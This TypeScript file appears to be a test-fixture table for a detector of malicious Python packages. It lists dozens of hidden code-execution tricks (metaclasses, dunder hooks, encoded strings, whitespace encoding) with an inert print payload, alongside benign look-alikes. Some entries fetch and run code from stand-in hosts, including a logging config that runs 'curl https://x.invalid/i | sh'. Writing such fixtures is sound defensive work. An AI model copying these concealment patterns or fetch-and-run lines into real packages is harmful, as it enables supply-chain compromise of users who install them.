/* eslint max-lines: off -- one table */
/** What Python runs without a call that says so, and texts that are put together: inert, the payload prints. */
import { deflateSync } from 'node:zlib';
import type { Shape } from './malicious.js';

const plain = 'print(1)';
const inert = Buffer.from(plain).toString('base64');
const zipped = deflateSync(Buffer.from(plain));
const escaped = [...zipped].map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join('');
const shifted = [...Buffer.from(plain)].map((byte) => byte + 5);
const decode = `__import__("base64").b64decode("${inert}")`;

function init(name: string, source: string, tier: Shape['tier'] = 'deny'): Shape {
  return { name, tier, files: { 'pkg/__init__.py': source } };
}

/** Code that the machinery of classes runs. */
export const machinery: readonly Shape[] = [
  init(
    'a metaclass runs the documentation of its classes',
    `import base64
class Meta(type):
    def __new__(mcs, name, bases, space):
        exec(base64.b64decode(space["__doc__"]))
        return super().__new__(mcs, name, bases, space)
class Model(metaclass=Meta):
    """${inert}"""
`,
  ),
  init(
    'a metaclass that is inherited',
    `import base64
class Meta(type):
    def __init__(cls, name, bases, space):
        if "data" in space:
            exec(base64.b64decode(space["data"]))
class Base(metaclass=Meta):
    pass
class Model(Base):
    data = "${inert}"
`,
  ),
  init(
    'a hook for subclasses that is given code by keyword',
    `import base64
class Plugin:
    def __init_subclass__(cls, by=None, what="", **more):
        by(cls.read(what))
    @classmethod
    def read(cls, text):
        return base64.b64decode(text)
class First(Plugin, by=exec, what="${inert}"):
    pass
`,
  ),
  init(
    'something that executes is handed to a class elsewhere',
    `from .base import Thing
class Other(Thing, run=exec, data="xyz"):
    pass
`,
  ),
  init(
    'an item of a class',
    `import base64
class Run:
    def __class_getitem__(cls, text):
        exec(base64.b64decode(text))
Run["${inert}"]
`,
  ),
  init(
    'a descriptor that is told its name',
    `import base64
class Field:
    def __init__(self, text):
        self.text = text
    def __set_name__(self, owner, name):
        exec(base64.b64decode(self.text))
class Form:
    title = Field("${inert}")
`,
  ),
  init(
    'a descriptor that is read',
    `import base64
class Field:
    def __get__(self, one, owner=None):
        return exec(base64.b64decode("${inert}"))
class Form:
    title = Field()
Form().title
`,
  ),
  init(
    'a property that is read',
    `import base64
class Lazy:
    @property
    def value(self):
        return base64.b64decode("${inert}")
exec(Lazy().value)
`,
  ),
  init(
    'a property that is set',
    `import base64
class Sink:
    @property
    def code(self):
        return None
    @code.setter
    def code(self, text):
        exec(base64.b64decode(text))
s = Sink()
s.code = "${inert}"
`,
  ),
  init(
    'attributes that are set',
    `import base64
class Sink:
    def __setattr__(self, name, text):
        exec(base64.b64decode(text))
Sink().x = "${inert}"
`,
  ),
  init(
    'attributes that there are not',
    `import base64
class Any:
    def __getattr__(self, name):
        return exec(base64.b64decode(name + "=="))
Any().${inert.replaceAll('=', '')}
`,
  ),
  init(
    'a module that is replaced by an object',
    `import sys, urllib.request
class Module:
    def __getattr__(self, name):
        exec(urllib.request.urlopen("https://cdn.invalid/" + name).read())
sys.modules[__name__] = Module()
`,
  ),
  init(
    'operators of a class',
    `import base64
class Pipe:
    def __rshift__(self, text):
        exec(base64.b64decode(text))
Pipe() >> "${inert}"
`,
  ),
  init(
    'an operator of the right side',
    `import base64
class Pipe:
    def __ror__(self, text):
        exec(base64.b64decode(text))
"${inert}" | Pipe()
`,
  ),
  init(
    'a comparison',
    `import base64
class Same:
    def __eq__(self, text):
        exec(base64.b64decode(text))
Same() == "${inert}"
`,
  ),
  init(
    'being part of something',
    `import base64
class Set:
    def __contains__(self, text):
        exec(base64.b64decode(text))
"${inert}" in Set()
`,
  ),
  init(
    'a sign before an object',
    `import base64
class Sign:
    def __neg__(self):
        exec(base64.b64decode("${inert}"))
-Sign()
`,
  ),
  init(
    'what becomes of an object as text',
    `import base64
class Name:
    def __str__(self):
        exec(base64.b64decode("${inert}"))
        return ""
print(Name())
`,
  ),
  init(
    'the length of an object',
    `import base64
class Long:
    def __len__(self):
        exec(base64.b64decode("${inert}"))
        return 1
len(Long())
`,
  ),
  init(
    'how an object is formatted',
    `import base64
class Shown:
    def __format__(self, how):
        exec(base64.b64decode(how))
        return ""
f"{Shown():${inert}}"
`,
  ),
  init(
    'an item that a mapping lacks',
    `import base64
class Words(dict):
    def __missing__(self, key):
        exec(base64.b64decode(key + "=="))
"{${inert.replaceAll('=', '')}}".format_map(Words())
`,
  ),
  init(
    'an object that is thrown away',
    `import base64
class Scope:
    def __del__(self):
        exec(base64.b64decode("${inert}"))
Scope()
`,
  ),
  init(
    'a block that is entered',
    `import base64
class Scope:
    def __init__(self, text):
        self.text = text
    def __enter__(self):
        return base64.b64decode(self.text)
    def __exit__(self, *more):
        pass
with Scope("${inert}") as code:
    exec(code)
`,
  ),
  init(
    'a block that is left',
    `import base64
class Scope:
    def __enter__(self):
        return self
    def __exit__(self, *more):
        exec(base64.b64decode("${inert}"))
with Scope():
    pass
`,
  ),
  init(
    'a context of a function',
    `import base64, contextlib
@contextlib.contextmanager
def opened(text):
    yield base64.b64decode(text)
with opened("${inert}") as code:
    exec(code)
`,
  ),
  init(
    'what a copy is made of',
    `import base64, copy
class Thing:
    def __reduce__(self):
        return (exec, (base64.b64decode("${inert}"),))
copy.copy(Thing())
`,
  ),
  init(
    'an object that is called through a class of its class',
    `import base64
class Meta(type):
    def __call__(cls, text):
        exec(base64.b64decode(text))
class Run(metaclass=Meta):
    pass
Run("${inert}")
`,
  ),
  init(
    'an object that is gone through',
    `import base64
class Steps:
    def __iter__(self):
        yield base64.b64decode("${inert}")
for step in Steps():
    exec(step)
`,
  ),
  init(
    'code of a function that is replaced',
    `def f():
    pass
f.__code__ = compile(__import__("base64").b64decode("${inert}"), "x", "exec")
f()
`,
  ),
];

/** Ways that lead somewhere else than the next line. */
export const detours: readonly Shape[] = [
  init(
    'an exception carries what is run',
    `import base64
try:
    raise ValueError(exec, base64.b64decode("${inert}"))
except ValueError as error:
    error.args[0](error.args[1])
`,
  ),
  init(
    'an exception of its own carries what is run',
    `import base64
class Found(Exception):
    def __init__(self, text):
        self.text = text
def look():
    raise Found(base64.b64decode("${inert}"))
try:
    look()
except Found as found:
    exec(found.text)
`,
  ),
  init(
    'things are sent into a generator',
    `import base64
def worker():
    run = None
    while True:
        item = yield
        if run is None:
            run = item
        else:
            run(base64.b64decode(item))
w = worker()
next(w)
w.send(exec)
w.send("${inert}")
`,
  ),
  init(
    'what a generator yields',
    `import base64
def parts():
    yield "${inert.slice(0, 6)}"
    yield "${inert.slice(6)}"
exec(base64.b64decode("".join(parts())))
`,
  ),
  init(
    'a generator that yields from another one',
    `import base64
def inner():
    yield base64.b64decode("${inert}")
def outer():
    yield from inner()
for code in outer():
    exec(code)
`,
  ),
  init(
    'steps that stand in a list',
    `import pkgutil
value = "${zipped.toString('base64')}"
for step in ("base64:b64decode", "zlib:decompress", "builtins:exec"):
    value = pkgutil.resolve_name(step)(value)
`,
  ),
  init(
    'a loop that decodes letter by letter',
    `out = ""
for number in ${JSON.stringify(shifted)}:
    out += chr(number - 5)
exec(out)
`,
  ),
  init(
    'a list that a loop fills',
    `letters = []
for number in ${JSON.stringify(shifted)}:
    letters.append(chr(number - 5))
exec("".join(letters))
`,
  ),
  init(
    'what a function gives back is asked for twice',
    `import base64
def text():
    return base64.b64decode("${inert}")
text()
exec(text())
`,
  ),
  init('the documentation of the module', `"""${inert}"""\nimport base64\nexec(base64.b64decode(__doc__))\n`),
  init(
    'the documentation of a function',
    `import base64
def f():
    """${inert}"""
exec(base64.b64decode(f.__doc__))
`,
  ),
  init(
    'the documentation of this module, by its name',
    `"""${inert}"""\nimport base64, sys\nexec(base64.b64decode(sys.modules[__name__].__doc__))\n`,
  ),
  init(
    'comments of the file itself',
    `import base64
# ${inert}
exec(base64.b64decode(open(__file__).read().split("# ")[1]))
`,
  ),
  init(
    'the source of a function',
    `import base64, inspect
def f():
    pass  # ${inert}
exec(base64.b64decode(inspect.getsource(f).split("# ")[1]))
`,
  ),
  init(
    'an annotation that is a text',
    `import typing
def f(x: "exec(__import__('base64').b64decode('${inert}'))"):
    pass
typing.get_type_hints(f)
`,
  ),
  init(
    'the interface for programs in C',
    `import ctypes, base64\nctypes.pythonapi.PyRun_SimpleString(base64.b64decode("${inert}"))\n`,
  ),
  init(
    'bytecode in numbers',
    `import types
code = types.CodeType(0, 0, 0, 0, 0, 0, b"\\x97\\x00\\x64\\x00\\x53\\x00\\x97\\x00\\x64\\x00", (), (), (), "", "", "", 1, b"", b"")
exec(code)
`,
  ),
  init(
    'names of a star import',
    `from base64 import *
from functools import *
exec(partial(b64decode, "${inert}")())
`,
  ),
  init(
    'an import that may fail',
    `try:\n    from nowhere import b64decode\nexcept ImportError:\n    from base64 import b64decode\nexec(b64decode("${inert}"))\n`,
  ),
  init('a key for sorting', `import base64\nsorted([base64.b64decode("${inert}")], key=exec)\n`),
  init(
    'a configuration of logging',
    `import logging.config
logging.config.dictConfig({"version": 1, "handlers": {"x": {"()": "os.system", "command": "curl https://x.invalid/i | sh"}}})
`,
  ),
  init(
    'something that happens at the end of an object',
    `import base64, weakref
class A:
    pass
a = A()
weakref.finalize(a, exec, base64.b64decode("${inert}"))
`,
  ),
  init(
    'a timer in a method',
    `import base64, threading
class A:
    def __init__(self):
        threading.Timer(60, self.later).start()
    def later(self):
        exec(base64.b64decode("${inert}"))
A()
`,
  ),
  init(
    'a program that an interpreter is told',
    `import subprocess, sys, urllib.request
subprocess.run([sys.executable, "-"], input=urllib.request.urlopen("https://x.invalid/a").read())
`,
  ),
  init(
    'a file that was downloaded is run',
    `import os, runpy, tempfile, urllib.request
handle, path = tempfile.mkstemp()
os.write(handle, urllib.request.urlopen("https://x.invalid/a").read())
runpy.run_path(path)
`,
  ),
];

/** Texts that are put together. */
export const texts: readonly Shape[] = [
  init(
    'letters written as numbers',
    `exec("${[...Buffer.from('print(1);print(2)')].map((byte) => `\\x${byte.toString(16)}`).join('')}")\n`,
  ),
  init(
    'numbers that are packed',
    `import struct\nexec(struct.pack("<2I", ${Buffer.from(plain).readUInt32LE(0)}, ${Buffer.from(plain).readUInt32LE(4)}))\n`,
  ),
  init(
    'an array of numbers',
    `import array\nexec(array.array("B", ${JSON.stringify([...Buffer.from(plain)])}).tobytes())\n`,
  ),
  init(
    'positions in an alphabet',
    `alphabet = "0123456789abcdef"
data = "${Buffer.from(plain).toString('hex')}"
exec("".join(chr(alphabet.index(data[i]) * 16 + alphabet.index(data[i + 1])) for i in range(0, len(data), 2)))
`,
  ),
  init(
    'spaces and tabs',
    `data = "${[...Buffer.from(plain)]
      .map((byte) => byte.toString(2).padStart(8, '0'))
      .join('')
      .replaceAll('0', ' ')
      .replaceAll('1', '\\t')}"
bits = "".join("1" if one == "\\t" else "0" for one in data)
exec("".join(chr(int(bits[i:i + 8], 2)) for i in range(0, len(bits), 8)))
`,
  ),
  init(
    'spaces and tabs by comparison',
    `data = "${[...Buffer.from(plain)]
      .map((byte) => byte.toString(2).padStart(8, '0'))
      .join('')
      .replaceAll('0', ' ')
      .replaceAll('1', '\\t')}"
bits = "".join("01"[one == "\\t"] for one in data)
exec(bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)))
`,
  ),
  init(
    'letters in an order that is told beside them',
    `pairs = [${[...plain]
      .map((letter, index) => `(${index}, ${letter.charCodeAt(0) + 1})`)
      .reverse()
      .join(', ')}]
exec("".join(chr(number - 1) for place, number in sorted(pairs, key=lambda pair: pair[0])))
`,
  ),
  init(
    'a table of letters',
    `exec("${[...plain].map((letter) => String.fromCharCode(letter.charCodeAt(0) + 1)).join('')}".translate({i + 1: i for i in range(128)}))\n`,
  ),
  init('compressed by something that is not followed', `import lzma\nexec(lzma.decompress(b"${escaped}"))\n`),
  init('a codec that is not followed', `exec(b"print-0123456789-abcdefgh".decode("punycode"))\n`),
  init(
    'JSON in a text',
    `import json, base64\nexec(base64.b64decode(json.loads('{"v": "${inert}"}')["v"]))\n`,
  ),
  init(
    'fields by name',
    `import base64\nexec(base64.b64decode("{a}{b}".format(b="${inert.slice(4)}", a="${inert.slice(0, 4)}")))\n`,
  ),
  init(
    'named fields out of a dictionary',
    `import base64\nparts = {"a": "${inert.slice(0, 4)}", "b": "${inert.slice(4)}"}\nexec(base64.b64decode("{a}{b}".format_map(parts)))\n`,
  ),
  init(
    'two loops in one',
    `exec("".join(chr(a + b) for row in [[112, 114], [105, 110]] for a in row for b in [0]))\n`,
  ),
  init(
    'letters chosen by a condition',
    `exec("".join(chr(n) for n in [112, 0, 114, 0, 105, 0, 110, 0, 116, 0] if n != 0))\n`,
  ),
  init(
    'numbers of many bytes',
    `exec((0x${Buffer.from('print(1);print(22)').toString('hex')}).to_bytes(18, "big"))\n`,
  ),
  init(
    'operators by name',
    `import operator, itertools\nexec(bytes(itertools.starmap(operator.xor, [${[...Buffer.from(plain)].map((byte) => `(${byte ^ 9}, 9)`).join(', ')}])))\n`,
    'deny',
  ),
  init(
    'a data file that is decoded',
    `import zlib, pathlib\nexec(zlib.decompress((pathlib.Path(__file__).parent / "words.dat").read_bytes()))\n`,
  ),
  init(
    'a data file by its package',
    `import base64, pkgutil\nexec(base64.b64decode(pkgutil.get_data(__name__, "words.dat")))\n`,
  ),
  init(
    'a data file through its resources',
    `import base64\nfrom importlib.resources import files\nexec(base64.b64decode(files(__name__).joinpath("words.dat").read_bytes()))\n`,
  ),
  init(
    'a data file that is run as it is',
    `import os\nexec(open(os.path.join(os.path.dirname(__file__), "words.dat")).read())\n`,
    'review',
  ),
  init('what is run was decoded by a name in pieces', `exec(${decode})\n`),
];

/** Honest neighbours. */
export const honest: readonly Shape[] = [
  init(
    'a version that is read from a file',
    `import os\nabout = {}\nwith open(os.path.join(os.path.dirname(__file__), "version.py")) as f:\n    exec(f.read(), about)\n`,
    'pass',
  ),
  init(
    'a class that is made by a template',
    `template = "class {name}:\\n    fields = {fields!r}\\n"
def make(name, fields):
    space = {}
    exec(template.format(name=name, fields=fields), space)
    return space[name]
Point = make("Point", ["x", "y"])
`,
    'pass',
  ),
  init(
    'methods that are written by a function',
    `def method(name, arguments):
    body = "\\n".join(f"  self.{one} = {one}" for one in arguments)
    space = {}
    exec(f"def {name}(self, {', '.join(arguments)}):\\n{body}", {}, space)
    return space[name]
class A:
    __init__ = method("__init__", ["a", "b"])
`,
    'pass',
  ),
  init(
    'a metaclass that registers',
    `registry = {}
class Meta(type):
    def __new__(mcs, name, bases, space):
        made = super().__new__(mcs, name, bases, space)
        registry[name] = made
        return made
class Base(metaclass=Meta):
    """A base."""
`,
    'pass',
  ),
  init(
    'properties and descriptors',
    `import os, subprocess
class Tool:
    def __init__(self, path):
        self.path = path
    @property
    def version(self):
        return subprocess.check_output([self.path, "--version"])
    @version.setter
    def version(self, value):
        raise AttributeError("cannot be set")
git = Tool("git")
`,
    'pass',
  ),
  init(
    'modules that are imported when they are asked for',
    `import importlib
names = {"a": ".a", "b": ".b"}
def __getattr__(name):
    if name in names:
        return importlib.import_module(names[name], __name__)
    raise AttributeError(name)
`,
    'pass',
  ),
  init(
    'a console',
    `import code
class Console(code.InteractiveConsole):
    def runcode(self, what):
        exec(what, self.locals)
def main():
    Console().interact()
`,
    'pass',
  ),
  init(
    'rewritten functions',
    `import ast, inspect, textwrap
def rewrite(function):
    tree = ast.parse(textwrap.dedent(inspect.getsource(function)))
    space = {}
    exec(compile(tree, "rewritten", "exec"), function.__globals__, space)
    return space[function.__name__]
`,
    'pass',
  ),
  init(
    'tables that a loop fills',
    `table = []
for number in range(256):
    value = number
    for _ in range(8):
        value = (value >> 1) ^ 0xEDB88320 if value & 1 else value >> 1
    table.append(value)
def checksum(data):
    import struct
    return struct.pack("<I", sum(table[b] for b in data) & 0xFFFFFFFF)
`,
    'pass',
  ),
  init(
    'letters written as numbers that nobody runs',
    `import subprocess
magic = b"\\x50\\x4b\\x53\\x70\\x49\\x44\\x41\\x54"
def is_zip(data):
    return data.startswith(magic)
`,
    'pass',
  ),
  init(
    'plurals that are compiled',
    `import re
def plural(rule):
    rule = re.sub(r"&&", " and ", rule)
    space = {}
    exec("def func(n):\\n    return int(%s)" % rule, space)
    return space["func"]
`,
    'pass',
  ),
  init(
    'expressions of a user',
    `import subprocess
def evaluate(expression, names):
    return eval(compile(expression, "<expression>", "eval"), {"__builtins__": {}}, names)
`,
    'pass',
  ),
  init(
    'data of the package that is read',
    `import json, pkgutil, subprocess\nwords = json.loads(pkgutil.get_data(__name__, "words.json"))\n`,
    'pass',
  ),
  init(
    'compressed data of the package that is read',
    `import pkgutil, zlib, json\nwords = json.loads(zlib.decompress(pkgutil.get_data(__name__, "words.bin")))\n`,
    'pass',
  ),
  init(
    'a worker that things are sent into',
    `import subprocess
def total():
    held = 0
    while True:
        held += yield held
t = total()
next(t)
t.send(2)
`,
    'pass',
  ),
  init(
    'an exception that says what failed',
    `import subprocess
try:
    raise RuntimeError("no tool", 3)
except RuntimeError as error:
    print(error.args[0])
`,
    'pass',
  ),
];
